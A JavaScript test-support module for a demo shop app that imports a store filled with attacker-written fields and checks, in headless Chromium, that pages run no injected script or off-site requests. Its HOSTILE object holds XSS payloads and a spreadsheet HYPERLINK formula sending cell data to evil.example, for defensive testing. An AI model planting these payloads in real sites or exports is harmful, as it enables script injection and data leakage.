// What the tests share: a small demo shop, the server, a browser whose pages report every wrong.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
export const ROOT = resolve(HERE, '../..');
const fromWeb = createRequire(join(ROOT, 'web/package.json'));
// The shell draws no window of its own around a page, which saves a quarter of the suite's processor time.
const CHROMIUM = ['chromium-headless-shell', 'chromium', 'chromium-browser'].map((name) => `/usr/bin/${name}`).find((path) => existsSync(path));
const DAYS = '60';
const ORDERS_A_DAY = '10';

export const full = process.env.SHOPVANE_FULL === '1';
export const ADMIN = { name: 'Lin', password: 'correct horse battery' };

/** Why nothing can be tested here; null when all is there. */
export function missing() {
    if (!process.env.SHOPVANE_BIN) return 'SHOPVANE_BIN names no program';
    if (!CHROMIUM) return 'no Chromium: apt-get install chromium-headless-shell';
    for (const tool of ['sqlite3', 'unzip'])
        if (spawnSync(tool, ['-version']).error) return `no ${tool}: apt-get install ${tool}`;
    if (!existsSync(join(ROOT, 'web/node_modules/playwright-core'))) return 'no packages: tools/web_packages all';
    return null;
}

const markup = (where) => `"'><img src=x onerror="window.pwned='${where}'"><script>window.pwned='${where}'</script>`;
/** What attackers write into the fields that a shop takes from others. */
export const HOSTILE = {
    markup,
    title: markup('title'),
    review: markup('review'),
    channel: markup('channel'),
    customer: markup('customer'),
    formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
};

export class Shop {
    constructor() {
        this.folder = mkdtempSync(join(tmpdir(), 'shopvane-board.'));
        this.dir = join(this.folder, 'shop');
        this.program = resolve(process.env.SHOPVANE_BIN);
        execFileSync(this.program, ['demo', this.dir, '--days', DAYS, '--orders-per-day', ORDERS_A_DAY], { stdio: 'pipe' });
        const year = String(new Date().getFullYear());
        this.run('goals', 'set', year, '--kpi', 'net_sales', '--base', '600000');
        this.addWest();
    }

    /** A second store, whose every text is an attack: what its customers and suppliers could have written. */
    addWest() {
        const day = new Date(Date.now() - 3 * 86400000).toISOString().slice(0, 10);
        const quoted = (row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',');
        const bring = (target, rows, store = 'west') => {
            const file = join(this.folder, `${store}-${target}.csv`);
            writeFileSync(file, rows.map(quoted).join('\n'));
            this.run('import', file, '--store', store, '--as', `generic:${target}`);
        };
        this.run('stores', 'add', 'west', 'team=w');
        bring('order_lines', [
            ['order_id', 'placed_at', 'customer_id', 'sku', 'quantity', 'unit_price', 'channel', 'city'],
            ['W1', `${day} 10:00:00`, HOSTILE.customer, 'WEST-1', '2', '40.00', HOSTILE.channel, HOSTILE.formula],
            ['W2', `${day} 11:00:00`, 'wu', 'WEST-2', '1', '20.00', HOSTILE.formula, HOSTILE.markup('city')],
        ]);
        // the number of the other store's order is given here, too
        bring('order_lines', [['order_id', 'placed_at', 'customer_id', 'sku', 'quantity', 'unit_price', 'channel'], ['W1', `${day} 09:00:00`, 'wu', 'SV-0001', '1', '7.00', 'search']], 'main');
        bring('product', [
            ['sku', 'title', 'category', 'brand', 'price'],
            ['WEST-1', HOSTILE.title, HOSTILE.markup('category'), HOSTILE.markup('brand'), '40.00'],
            ['WEST-2', HOSTILE.formula, HOSTILE.formula, '@brand', '20.00'],
        ]);
        bring('feedback', [
            ['feedback_id', 'kind', 'sku', 'score', 'text', 'created_at'],
            ['r1', 'review', 'WEST-1', '1', HOSTILE.review, `${day} 12:00:00`],
        ]);
    }

    run(...args) {
        return execFileSync(this.program, ['-C', this.dir, ...args], { encoding: 'utf8' });
    }

    /** Starts the server; the address and the one-time link of the first start come from what it prints. */
    async serve() {
        this.server = spawn(this.program, ['-C', this.dir, 'serve', '--listen', '127.0.0.1:0'], { stdio: ['ignore', 'pipe', 'pipe'] });
        let said = '';
        const heard = (chunk) => {
            said += chunk;
        };
        this.server.stdout.on('data', heard);
        this.server.stderr.on('data', heard);
        for (let i = 0; i < 300 && !/healthz/.test(said); i++) await new Promise((done) => setTimeout(done, 50));
        const hit = /http:\/\/127\.0\.0\.1:(\d+)/.exec(said);
        if (!hit) throw new Error(`the server did not start: ${said}`);
        this.base = hit[0];
        this.firstLink = /http\S*first-admin#\S+/.exec(said)?.[0] ?? null;
    }

    async stop() {
        if (this.server) {
            const ended = new Promise((done) => this.server.once('exit', done));
            this.server.kill('SIGTERM');
            await ended;
        }
        rmSync(this.folder, { recursive: true, force: true });
    }
}

export async function launch() {
    const { chromium } = fromWeb('playwright-core');
    const args = ['--disable-dev-shm-usage', '--force-color-profile=srgb'];
    if (process.getuid?.() === 0) args.push('--no-sandbox');
    return chromium.launch({ executablePath: CHROMIUM, args });
}

/** A page that remembers console errors, broken scripts, failed requests and requests to elsewhere. */
export async function watched(context, base) {
    const page = await context.newPage();
    const wrongs = [];
    page.on('console', (message) => {
        if (message.type() === 'error') wrongs.push(`console: ${message.text()} (${message.location().url})`);
    });
    page.on('pageerror', (error) => wrongs.push(`script: ${error.message}`));
    page.on('request', (request) => {
        const url = request.url();
        if (!url.startsWith(base) && !/^(data|blob):/.test(url)) wrongs.push(`request to elsewhere: ${url}`);
    });
    page.on('response', (response) => {
        if (response.status() >= 400) wrongs.push(`${response.status()} ${response.url()}`);
    });
    page.wrongs = wrongs;
    return page;
}

/** Until every question of the page is answered (not only an older one's answer shown), nothing is a skeleton, and every
 *  chart is drawn of what it has now. The board marks each of these with the drawing that a click brings, so no waiting on time. */
export async function settled(page) {
    await page.waitForFunction(
        () => document.querySelector('.shell main, main.bare > *') !== null && document.querySelector('.skeleton, [aria-busy="true"]') === null && document.querySelector('.chart-canvas:not([data-drawn])') === null,
        undefined,
        { timeout: 20000 },
    );
}

const axeSource = () => readFileSync(fromWeb.resolve('axe-core/axe.min.js'), 'utf8');
let axe;

/** Findings of axe, minor ones too, one a line. */
export async function findings(page) {
    axe ??= axeSource();
    if (!(await page.evaluate(() => 'axe' in window))) await page.evaluate(axe);
    const result = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
    return result.violations.flatMap(({ id, nodes }) => nodes.slice(0, 4).map((node) => `${id}: ${node.target.join(' ')}: ${(node.any[0] ?? node.all[0] ?? node.none[0])?.message ?? ''}`));
}

const shots = process.env.SHOPVANE_SHOTS ?? join(tmpdir(), 'shopvane-board-shots');

export async function shot(page, name) {
    mkdirSync(shots, { recursive: true });
    await page.screenshot({ path: join(shots, `${name}.png`) });
}
